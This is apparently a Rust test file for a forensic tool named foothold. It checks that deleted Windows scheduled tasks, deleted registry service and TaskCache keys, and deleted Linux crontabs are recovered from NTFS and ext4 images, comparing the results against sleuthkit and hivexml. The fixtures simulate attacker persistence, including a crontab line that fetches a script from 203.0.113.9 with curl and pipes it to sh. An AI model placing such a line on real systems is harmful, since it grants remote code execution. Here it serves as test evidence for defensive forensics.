//! What the attacker removed (#20), on NTFS images made and then changed by ntfs-3g: task
//! files deleted with `rm` through the mount are found among the unused MFT records, read
//! back and parsed; whether their clusters were taken since is what sleuthkit's `istat` and
//! `blkstat` say; what is read equals what `icat` reads.
use crate::common::*;
use foothold::{Evidence, ScanSet};
use std::path::Path;

use crate::common::run_quiet as run;

/// Mount `img` with ntfs-3g, run `f` on the mount point, unmount.
fn with_mount(img: &Path, f: impl FnOnce(&Path)) -> Option<()> {
    let mnt = img.with_extension("mnt2");
    std::fs::create_dir_all(&mnt).unwrap();
    let (i, m) = (img.to_str().unwrap(), mnt.to_str().unwrap());
    if !run("ntfs-3g", &[i, m]) {
        skip("ntfs-3g could not mount: deleted task files not tested");
        return None;
    }
    f(&mnt);
    (run("sync", &[]) && run("umount", &[m])).then_some(())
}

/// The clusters of a record's unnamed `$DATA` as `istat` lists them, and whether `blkstat`
/// calls any of them allocated; `None` for resident data.
fn clusters_allocated(img: &str, entry: u64) -> Option<bool> {
    let istat = oracle_tool("istat", &[img, &entry.to_string()])?;
    let mut lines = istat
        .lines()
        .skip_while(|l| !l.starts_with("Type: $DATA (128-"));
    let head = lines.next()?;
    if !head.contains("Non-Resident") {
        return None;
    }
    let clusters: Vec<String> = lines
        .take_while(|l| !l.starts_with("Type:"))
        .flat_map(|l| l.split_whitespace().map(str::to_string).collect::<Vec<_>>())
        .filter(|c| c.parse::<u64>().is_ok_and(|n| n > 0))
        .collect();
    assert!(!clusters.is_empty(), "{istat}");
    Some(clusters.iter().any(|c| {
        oracle_tool("blkstat", &[img, c])
            .is_some_and(|o| o.lines().any(|l| l.trim() == "Allocated"))
    }))
}

/// Real task files (three from a Windows 10 machine, a real `.job`, a small authored one
/// that stays resident in its MFT record) on an NTFS image; four are then deleted with `rm`
/// and an empty live file gets two clusters, taken from the freed ones. Every deleted task file
/// that `fls -d` lists is either a recovered task — `intact`, equal to the parse of the
/// original file, where `blkstat` finds none of its clusters taken (or it is resident) — or,
/// where its clusters were taken, a `clusters_reallocated` task or an error record saying
/// so. What foothold reads of each equals what `icat` reads.
#[test]
fn deleted_task_files_are_recovered_with_what_survived() {
    let Some(real) = real_corpus() else { return };
    let dir = scratch().join("deleted-tasks");
    let _ = std::fs::remove_dir_all(&dir);
    let tasks = dir.join("tree/Windows/System32/Tasks");
    std::fs::create_dir_all(tasks.join("Microsoft/Windows/Autochk")).unwrap();
    std::fs::create_dir_all(dir.join("tree/Windows/Tasks")).unwrap();
    let rt = real.join("tasks");
    let files: Vec<(&str, std::path::PathBuf)> = vec![
        ("GameOver", rt.join("museum_Tasks__Win10__APTSimulatorVM__GameOver")),
        (
            "GoogleUpdateTaskMachineCore",
            rt.join("museum_Tasks__Win10__APTSimulatorVM__GoogleUpdateTaskMachineCore{CF8953F0-7413-4BC6-94A3-B0282ACC3AE4}"),
        ),
        (
            "Microsoft/Windows/Autochk/Proxy",
            rt.join("museum_Tasks__Win10__APTSimulatorVM__Microsoft__Windows__Autochk__Proxy"),
        ),
    ];
    for (name, from) in &files {
        std::fs::copy(from, tasks.join(name)).unwrap();
    }
    std::fs::write(
        tasks.join("Tiny"),
        "<Task><Actions><Exec><Command>C:\\Users\\Public\\t.exe</Command></Exec></Actions></Task>",
    )
    .unwrap();
    std::fs::copy(
        rt.join("plaso__wintask.job"),
        dir.join("tree/Windows/Tasks/wintask.job"),
    )
    .unwrap();
    std::fs::write(dir.join("tree/spare.bin"), b"").unwrap();
    let img = dir.join("ntfs.img");
    if ntfs_image_of(&dir.join("tree"), &img, &[]).is_none() {
        return;
    }
    with_mount(&img, |m| {
        for f in [
            "Windows/System32/Tasks/GameOver",
            "Windows/System32/Tasks/Microsoft/Windows/Autochk/Proxy",
            "Windows/System32/Tasks/Tiny",
            "Windows/Tasks/wintask.job",
        ] {
            std::fs::remove_file(m.join(f)).unwrap();
        }
    })
    .unwrap();
    // A live, empty file gets its first clusters: ntfs-3g takes freed ones (and no new MFT
    // record takes a deleted one's).
    with_mount(&img, |m| {
        std::fs::write(m.join("spare.bin"), vec![0xa5; 6000]).unwrap();
    })
    .unwrap();
    let i = img.to_str().unwrap();
    let Some(fls) = oracle_tool("fls", &["-r", "-d", "-p", i]) else {
        return;
    };
    // `-/r * 71-128-2:	Windows/System32/Tasks/GameOver`
    let gone: Vec<(u64, String)> = fls
        .lines()
        .filter_map(|l| {
            let (addr, path) = l.split_once(":\t")?;
            let entry = addr.rsplit(' ').next()?.split('-').next()?.parse().ok()?;
            let p = format!("/{path}");
            (p.starts_with("/Windows/System32/Tasks/") || p.starts_with("/Windows/Tasks/"))
                .then_some((entry, p))
        })
        .collect();
    assert!(gone.len() >= 2, "{fls}");
    let ev = Evidence::open(&img).expect("open");
    let r = ev.scan(ScanSet::all());
    let fs = ev.filesystem(ev.volume(None).unwrap()).unwrap();
    let mut n = 0;
    let mut intact = 0;
    let mut taken_any = false;
    for (entry, path) in &gone {
        let rec = r
            .scheduled_tasks
            .iter()
            .find(|t| t.recovered.is_some() && t.source.entry == Some(*entry));
        let err = r
            .errors
            .iter()
            .find(|e| e.source.entry == Some(*entry) && e.message.contains("deleted task file"));
        let taken = clusters_allocated(i, *entry);
        taken_any |= taken == Some(true);
        // What foothold reads of the deleted file is what icat reads.
        let d = fs
            .deleted()
            .unwrap()
            .into_iter()
            .find(|d| d.entry == *entry)
            .expect("among the deleted");
        assert_eq!(&d.path, path);
        let ours = fs.read_all(&d, None, 1 << 20).expect("read");
        let out = std::process::Command::new("icat")
            .args([i, &entry.to_string()])
            .output()
            .expect("icat");
        assert_eq!(ours, out.stdout, "{path}");
        let original = std::fs::read(dir.join("tree").join(&path[1..])).unwrap();
        match taken {
            Some(true) => {
                let said = rec.map(|t| {
                    t.recovered.as_ref().unwrap().confidence
                        == Some(foothold_core::Confidence::ClustersReallocated)
                });
                assert!(
                    said == Some(true)
                        || err.is_some_and(|e| e.message.contains("clusters_reallocated")),
                    "{path}: clusters taken, not said"
                );
            }
            _ => {
                let t = rec.unwrap_or_else(|| panic!("{path}: not recovered ({err:?})"));
                let rcv = t.recovered.as_ref().unwrap();
                assert_eq!(
                    rcv.confidence,
                    Some(foothold_core::Confidence::Intact),
                    "{path}"
                );
                assert_eq!(rcv.from.as_str(), "mft");
                assert_eq!(ours, original, "{path}: intact content");
                let want = if path.ends_with(".job") {
                    foothold_windows::parse_job(&original).unwrap()
                } else {
                    foothold_windows::parse_task_xml(&original).unwrap()
                };
                assert_eq!(t.task.actions, want.actions, "{path}");
                assert_eq!(t.task.triggers, want.triggers, "{path}");
                intact += 1;
            }
        }
        n += 2;
    }
    assert!(intact >= 2, "{intact} intact of {gone:?}");
    assert!(
        taken_any,
        "no deleted task file lost a cluster: the reallocated case did not run"
    );
    // The live one is not marked.
    assert!(r
        .scheduled_tasks
        .iter()
        .any(|t| t.task.name == "\\GoogleUpdateTaskMachineCore" && t.recovered.is_none()));
    compared("icat+blkstat", n);
}

/// `(file offset, mtime)` of the node at `path` (names below the root) as `hivexml` prints
/// it: the node's `byte_runs` and `mtime`.
fn hivexml_node(hive: &Path, path: &[&str]) -> Option<(u64, String)> {
    let xml = oracle_tool("hivexml", &[hive.to_str().unwrap()])?;
    // Walk the nested <node name="…"> elements along the path.
    let mut rest = xml.as_str();
    for (i, name) in path.iter().enumerate() {
        let tag = format!("<node name=\"{name}\"");
        let at = rest.find(&tag)?;
        rest = &rest[at + tag.len()..];
        if i + 1 == path.len() {
            let mtime = rest
                .split("<mtime>")
                .nth(1)?
                .split("</mtime>")
                .next()?
                .to_string();
            let off = rest
                .split("file_offset=\"")
                .nth(1)?
                .split('"')
                .next()?
                .parse()
                .ok()?;
            return Some((off, mtime));
        }
    }
    None
}

fn hivexsh(hive: &Path, script: &str) {
    assert!(
        tool_stdin("hivexsh", &["-w", hive.to_str().unwrap()], script).is_some(),
        "hivexsh {script}"
    );
}

/// Keys deleted with `hivexsh` (`del`): a service key added to the corpus SYSTEM hive and
/// then deleted, and a task's TaskCache Tree and Tasks keys deleted from the corpus
/// SOFTWARE hive. Each is found in the hive's unallocated cells at the file offset and with
/// the key time `hivexml` showed for it before the deletion, and the scan reports it as a
/// service or task with `recovered: {from: "hive_unallocated"}`. hivex clears a key's values
/// before freeing it, so no values come back (Windows' own deletions keep them; the yarp
/// hive of the windows crate's tests shows the paths of keys Windows deleted).
#[test]
fn deleted_service_and_task_cache_keys_are_recovered_from_the_hives() {
    if !need("hivexsh", "deleted registry keys") {
        return;
    }
    let dir = scratch().join("deleted-keys");
    let _ = std::fs::remove_dir_all(&dir);
    let config = dir.join("tree/Windows/System32/config");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::create_dir_all(dir.join("tree/Windows/System32/Tasks")).unwrap();
    let corpus = Evidence::open(corpus_image("windows-tasks")).expect("windows-tasks");
    for h in ["SYSTEM", "SOFTWARE"] {
        let b = corpus
            .read(&format!("/Windows/System32/config/{h}"), None, 1 << 30)
            .expect("hive");
        std::fs::write(config.join(h), b).unwrap();
    }
    let (system, software) = (config.join("SYSTEM"), config.join("SOFTWARE"));
    hivexsh(
        &system,
        "cd \\ControlSet001\\Services\nadd EvilGone\ncd EvilGone\nsetval 2\nImagePath\nstring:C:\\ProgramData\\gone\\svc.exe\nStart\ndword:0x2\ncommit\n",
    );
    let tc = [
        "Microsoft",
        "Windows NT",
        "CurrentVersion",
        "Schedule",
        "TaskCache",
    ];
    let svc_path = ["ControlSet001", "Services", "EvilGone"];
    let tree_path: Vec<&str> = tc.iter().copied().chain(["Tree", "Renamed"]).collect();
    let id = "{A0000000-0000-4000-8000-000000000004}";
    let task_path: Vec<&str> = tc.iter().copied().chain(["Tasks", id]).collect();
    let (Some(svc), Some(tree), Some(task)) = (
        hivexml_node(&system, &svc_path),
        hivexml_node(&software, &tree_path),
        hivexml_node(&software, &task_path),
    ) else {
        panic!("hivexml did not show the keys before their deletion");
    };
    hivexsh(
        &system,
        "cd \\ControlSet001\\Services\\EvilGone\ndel\ncommit\n",
    );
    hivexsh(
        &software,
        &format!(
            "cd \\{}\\Tree\\Renamed\ndel\ncd \\{}\\Tasks\\{id}\ndel\ncommit\n",
            tc.join("\\"),
            tc.join("\\")
        ),
    );
    // The library: the deleted keys where hivexml saw them, with its times.
    let mut n = 0;
    for (hive, path, (off, mtime)) in [
        (&system, svc_path.join("\\"), &svc),
        (&software, tree_path.join("\\"), &tree),
        (&software, task_path.join("\\"), &task),
    ] {
        let h = foothold_windows::RegistryHive::new(std::fs::read(hive).unwrap()).unwrap();
        let d = h
            .deleted_keys()
            .into_iter()
            .find(|d| d.path == path)
            .unwrap_or_else(|| panic!("{path} not among the deleted keys"));
        assert!(d.complete && d.key.is_deleted());
        assert_eq!(u64::from(d.key.offset()) + 4096, *off, "{path}");
        assert_eq!(
            h.key_last_written(d.key).map(|t| t.to_string()).as_deref(),
            Some(mtime.as_str()),
            "{path}"
        );
        assert!(h.problems().is_empty(), "{:?}", h.problems());
        n += 2;
    }
    // The scan, on an NTFS image of the tree.
    let img = dir.join("ntfs.img");
    if ntfs_image_of(&dir.join("tree"), &img, &[]).is_none() {
        return;
    }
    let r = Evidence::open(&img).expect("open").scan(ScanSet::all());
    let s = r
        .services
        .iter()
        .find(|s| s.service.name == "EvilGone")
        .expect("recovered service");
    let rec = s.recovered.as_ref().expect("marked recovered");
    assert_eq!(rec.from.as_str(), "hive_unallocated");
    assert_eq!(
        s.source.key.as_deref(),
        Some("ControlSet001\\Services\\EvilGone")
    );
    assert_eq!(
        s.service.last_written.map(|t| t.to_string()),
        Some(svc.1.clone())
    );
    let names: Vec<&str> = r
        .scheduled_tasks
        .iter()
        .filter(|t| {
            t.recovered
                .as_ref()
                .is_some_and(|x| x.from.as_str() == "hive_unallocated")
        })
        .map(|t| t.task.name.as_str())
        .collect();
    assert!(names.contains(&"\\Renamed"), "{names:?}");
    assert!(names.contains(&format!("\\{id}").as_str()), "{names:?}");
    assert!(!r
        .services
        .iter()
        .any(|s| s.recovered.is_some() && s.service.name != "EvilGone"));
    compared("hivexml", n + 2);
}

/// Crontabs deleted with `debugfs rm` from an ext4 image made by `mke2fs -d` (a user's
/// crontab, a cron.d file), after which `debugfs fallocate` gives a live file a freed block:
/// each deleted crontab `fls -d` lists is read back as `icat` reads it, its jobs are the
/// original lines' (schedule, command, user), and `confidence` is `intact` unless `blkstat`
/// finds its block allocated again.
#[test]
fn crontabs_deleted_with_debugfs_are_recovered_from_their_inodes() {
    if !need("debugfs", "deleted crontabs") {
        return;
    }
    let dir = scratch().join("deleted-crontabs");
    let _ = std::fs::remove_dir_all(&dir);
    let root = dir.join("root");
    for d in ["var/spool/cron/crontabs", "etc/cron.d"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    let tabs = [
        (
            "var/spool/cron/crontabs/mallory",
            "*/5 * * * * curl -s http://203.0.113.9/x | sh\n",
        ),
        (
            "etc/cron.d/sync",
            "SHELL=/bin/sh\n17 3 * * * root /usr/local/bin/.sync --quiet\n",
        ),
        ("etc/cron.d/keep", "0 4 * * * root /usr/bin/true\n"),
    ];
    for (p, text) in tabs {
        std::fs::write(root.join(p), text).unwrap();
    }
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\nmallory:x:1337:1337::/home/mallory:/bin/bash\n",
    )
    .unwrap();
    std::fs::write(root.join("etc/os-release"), "PRETTY_NAME=\"Debian\"\n").unwrap();
    std::fs::write(root.join("spare"), b"").unwrap();
    let img = dir.join("ext4.img");
    let i = img.to_str().unwrap();
    assert!(run(
        "mke2fs",
        &["-q", "-t", "ext4", "-d", root.to_str().unwrap(), i, "8M"]
    ));
    for p in ["/var/spool/cron/crontabs/mallory", "/etc/cron.d/sync"] {
        assert!(run("debugfs", &["-w", "-R", &format!("rm {p}"), i]));
    }
    // An existing empty file gets one block: debugfs takes the lowest free one (no new
    // inode takes a deleted one's).
    assert!(run("debugfs", &["-w", "-R", "fallocate /spare 0 0", i]));
    let Some(fls) = oracle_tool("fls", &["-r", "-d", "-p", i]) else {
        return;
    };
    let gone: Vec<(u64, String)> = fls
        .lines()
        .filter_map(|l| {
            let (addr, path) = l.split_once(":\t")?;
            Some((addr.rsplit(' ').next()?.parse().ok()?, format!("/{path}")))
        })
        .filter(|(_, p)| p.contains("cron"))
        .collect();
    assert_eq!(gone.len(), 2, "{fls}");
    let ev = Evidence::open(&img).expect("open");
    let r = ev.scan(ScanSet::all());
    let fs = ev.filesystem(ev.volume(None).unwrap()).unwrap();
    let mut n = 0;
    let mut reallocated = 0;
    for (ino, path) in &gone {
        let d = fs
            .deleted()
            .unwrap()
            .into_iter()
            .find(|d| d.entry == *ino)
            .expect("among the deleted");
        let ours = fs.read_all(&d, None, 1 << 20).expect("read");
        let theirs = std::process::Command::new("icat")
            .args([i, &ino.to_string()])
            .output()
            .expect("icat")
            .stdout;
        assert_eq!(ours, theirs, "{path}");
        let istat = oracle_tool("istat", &[i, &ino.to_string()]).unwrap();
        let blocks: Vec<String> = istat
            .lines()
            .skip_while(|l| !l.starts_with("Direct Blocks:"))
            .skip(1)
            .flat_map(|l| l.split_whitespace().map(str::to_string).collect::<Vec<_>>())
            .filter(|b| b.parse::<u64>().is_ok())
            .collect();
        let taken = blocks.iter().any(|b| {
            oracle_tool("blkstat", &[i, b])
                .is_some_and(|o| o.lines().any(|l| l.trim() == "Allocated"))
        });
        let jobs: Vec<_> = r
            .cron_jobs
            .iter()
            .filter(|c| c.source.entry == Some(*ino))
            .collect();
        if taken {
            reallocated += 1;
            assert!(
                jobs.iter().all(|c| c.recovered.as_ref().unwrap().confidence
                    == Some(foothold_core::Confidence::ClustersReallocated))
                    && (!jobs.is_empty() || r.errors.iter().any(|e| e.source.entry == Some(*ino))),
                "{path}: block taken, not said"
            );
        } else {
            let original = tabs
                .iter()
                .find(|(p, _)| format!("/{p}") == *path)
                .unwrap()
                .1;
            assert_eq!(ours, original.as_bytes(), "{path}");
            assert_eq!(jobs.len(), 1, "{path}");
            let c = jobs[0];
            let rec = c.recovered.as_ref().expect("recovered");
            assert_eq!(
                (rec.from.as_str(), rec.confidence),
                ("inode", Some(foothold_core::Confidence::Intact))
            );
            let line = original.lines().last().unwrap();
            assert!(
                line.starts_with(&c.job.schedule),
                "{path}: {}",
                c.job.schedule
            );
            assert!(line.ends_with(&c.job.command), "{path}: {}", c.job.command);
            let user = if path.contains("mallory") {
                "mallory"
            } else {
                "root"
            };
            assert_eq!(c.job.user.as_deref(), Some(user));
            assert!(rec.deleted.is_some(), "ext keeps the deletion time");
        }
        n += 2;
    }
    assert!(
        reallocated < gone.len(),
        "every deleted crontab lost its block"
    );
    assert!(
        reallocated > 0,
        "no deleted crontab lost its block: that case did not run"
    );
    // The live one is not marked.
    assert!(r
        .cron_jobs
        .iter()
        .any(|c| c.source.path == "/etc/cron.d/keep" && c.recovered.is_none()));
    compared("icat+blkstat", n);
}
